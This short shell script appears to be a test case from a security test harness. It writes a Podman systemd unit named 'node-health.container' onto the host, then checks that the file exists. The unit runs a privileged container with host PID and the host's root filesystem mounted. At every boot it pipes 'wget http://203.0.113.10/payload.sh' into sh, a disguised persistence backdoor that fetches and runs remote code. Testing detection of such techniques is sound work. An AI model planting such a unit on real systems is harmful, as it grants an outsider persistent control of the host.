#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/containers/systemd /host/etc/systemd/system/multi-user.target.wants
cat >/host/etc/containers/systemd/node-health.container <<'END'
[Container]
Image=docker.io/library/alpine
Exec=sh -c "wget -qO- http://203.0.113.10/payload.sh | sh"
Volume=/:/host
PodmanArgs=--privileged --pid=host
[Install]
WantedBy=multi-user.target
END
test -s /host/etc/containers/systemd/node-health.container
took_place
